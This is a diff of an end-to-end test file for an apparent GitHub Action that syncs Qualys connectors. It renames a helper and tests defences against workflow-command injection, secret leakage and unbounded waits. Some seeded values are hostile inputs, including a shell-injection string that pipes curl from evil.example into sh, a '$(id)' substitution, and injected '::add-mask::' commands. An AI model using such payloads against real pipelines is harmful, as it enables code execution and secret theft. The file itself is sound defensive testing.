@@ -10,7 +10,7 @@ import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
 import http from 'node:http'
 import net from 'node:net'
 import type { AddressInfo } from 'node:net'
-import { annotations, APP_ID, AZURE_SECRET, inlineConnector, passwordInputs, spec, specConnector, TENANT, TENANT_2, USER } from '../test-support/e2e.js'
+import { annotations, APP_ID, AZURE_SECRET, inlineInputs, passwordInputs, spec, specConnector, TENANT, TENANT_2, USER } from '../test-support/e2e.js'
 import { FakeQualysGateway } from '../test-support/gateway.js'
 import { FakeGitHubApi, MAX_COMMENT_BODY, pullRequestEnv } from '../test-support/github-api.js'
 import { runAction, type ActionRun } from '../test-support/run-action.js'
@@ -79,7 +79,7 @@ describe('nothing untrusted becomes a workflow command', () => {
       description: 'old\n::add-mask::Contoso\r\n::stop-commands::tok\u2028::warning::injected ##[error]v1',
       state: 'SUCCESS\n::error::state-injected'
     })
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector({ description: 'new' }), mode: 'plan' } })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs({ description: 'new' }), mode: 'plan' } })
     expectExit(run, 0)
     expect(foreignCommands(run)).toEqual([])
     // Still there for a person to read, on the plan's own line.
@@ -90,7 +90,7 @@ describe('nothing untrusted becomes a workflow command', () => {
 
   it('a server message in an error annotation cannot add a command either', async () => {
     gateway.fault({ method: 'POST', path: CREATE_PATH, fault: { kind: 'status', status: 400, body: JSON.stringify({ message: 'refused\n::add-mask::Contoso\n##[warning]x' }) } })
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector() } })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs() } })
     expectExit(run, 1)
     expect(foreignCommands(run)).toEqual([])
     expect(annotations(run).join('\n')).toMatch(/refused :\u200b:add-mask:\u200b:Contoso #\u200b#\[warning\]x/)
@@ -98,7 +98,7 @@ describe('nothing untrusted becomes a workflow command', () => {
 
   it('shell-interpolated outputs that do not have their form are not set, and the connector is named', async () => {
     seedContoso({ state: 'SUCCESS"; curl https://evil.example | sh; echo "', uuid: '$(id)' })
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector(), mode: 'plan' } })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs(), mode: 'plan' } })
     expectExit(run, 0)
     expect(run.outputs.state).toBe('')
     expect(run.outputs['connector-uuid']).toBe('')
@@ -224,7 +224,7 @@ describe('secrets cannot escape through formatting or the spec', () => {
     const escaped = [...SECRET].map(c => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
     const body = `{"status":400,"message":"${'x'.repeat(486)} ${escaped} is not a valid secretValue"}`
     gateway.fault({ method: 'POST', path: CREATE_PATH, times: Infinity, fault: { kind: 'status', status: 400, body } })
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector({ 'secret-value': SECRET }) }, env: { RUNNER_DEBUG: '1' } })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs({ 'secret-value': SECRET }) }, env: { RUNNER_DEBUG: '1' } })
     expectExit(run, 1)
     expect(JSON.parse(gateway.requests.find(r => r.path === CREATE_PATH)!.body).secretValue).toBe(SECRET)
     expect(annotations(run).join('\n')).toContain('Qualys rejected the request (400)')
@@ -247,7 +247,7 @@ describe('secrets cannot escape through formatting or the spec', () => {
   })
 
   it('a gateway URL that does not parse is not echoed with its user:password@', async () => {
-    const run = await runAction({ inputs: { ...inlineConnector(), 'qualys-gateway-url': 'https://ci_user:pa/ss@w0rd@gate way.example', 'qualys-username': USER.username, 'qualys-password': USER.password } })
+    const run = await runAction({ inputs: { ...inlineInputs(), 'qualys-gateway-url': 'https://ci_user:pa/ss@w0rd@gate way.example', 'qualys-username': USER.username, 'qualys-password': USER.password } })
     expectExit(run, 1)
     expect(annotations(run).join('\n')).toMatch(/input 'qualys-gateway-url': is not a URL .*not shown because it holds an @/)
     expect(visible(run)).not.toMatch(/pa\/ss|w0rd/)
@@ -264,7 +264,7 @@ describe('every wait has an end', () => {
   })
 
   function tokenInputs(url: string, extra: Record<string, string> = {}): Record<string, string> {
-    return { 'qualys-gateway-url': url, 'qualys-token': GIVEN_TOKEN, ...inlineConnector(), ...extra }
+    return { 'qualys-gateway-url': url, 'qualys-token': GIVEN_TOKEN, ...inlineInputs(), ...extra }
   }
 
   it('headers trickled a byte at a time are cut off at request-timeout (the whole request, not the silence)', async () => {
@@ -309,7 +309,7 @@ describe('every wait has an end', () => {
   it('a created connector keeps its outputs and summary when a later read answers JSON nested 200,000 deep', async () => {
     const deep = `{"id":1,"name":"Contoso","x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`
     gateway.fault({ method: 'GET', path: BY_ID, times: Infinity, fault: { kind: 'status', status: 200, body: deep } })
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector(), 'wait-for-sync': 'true', 'wait-timeout': '20s' }, timeoutMs: 40_000 })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs(), 'wait-for-sync': 'true', 'wait-timeout': '20s' }, timeoutMs: 40_000 })
     expectExit(run, 1)
     const [created] = gateway.connectors()
     expect(run.outputs['connector-id']).toBe(String(created.id))
@@ -322,7 +322,7 @@ describe('every wait has an end', () => {
   it('a pause announced on a successful answer is waited out and logged with its length', async () => {
     gateway.fault({ method: 'GET', path: LIST_PATH, fault: { kind: 'status', status: 200, headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-ToWait-Sec': '2' }, body: '{"content":[]}' } })
     const started = Date.now()
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector() } })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs() } })
     expectExit(run, 0)
     expect(run.stdout).toContain('Qualys: the API limit is used up for now (X-RateLimit-Remaining: 0); pausing calls for 2 s')
     // The create waited for it (a run is well under a second otherwise).
@@ -333,7 +333,7 @@ describe('every wait has an end', () => {
   it('an announced pause longer than the 15-minute cap fails the run at once, naming the wait', async () => {
     gateway.fault({ method: 'GET', path: LIST_PATH, fault: { kind: 'status', status: 200, headers: { 'X-RateLimit-Remaining': '0', 'X-RateLimit-ToWait-Sec': '100000' }, body: '{"content":[]}' } })
     const started = Date.now()
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector() }, timeoutMs: 20_000 })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs() }, timeoutMs: 20_000 })
     expect(Date.now() - started).toBeLessThan(10_000)
     expectExit(run, 1)
     expect(gateway.requests.filter(r => r.path === CREATE_PATH)).toHaveLength(0)
@@ -357,7 +357,7 @@ describe('spec edge cases', () => {
 
   it('a spec name that renders like a connector in Qualys is that connector: no duplicate is created', async () => {
     gateway.seed({ name: COMPOSED, tenantId: TENANT, tenantName: 'contoso.onmicrosoft.com', applicationId: APP_ID, connectorPrefixName: 'contoso' })
-    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineConnector({ name: DECOMPOSED }) } })
+    const run = await runAction({ inputs: { ...passwordInputs(gateway.url), ...inlineInputs({ name: DECOMPOSED }) } })
     expectExit(run, 0)
     expect(gateway.connectors()).toHaveLength(1)
     expect(run.outputs.result).toBe('unchanged')
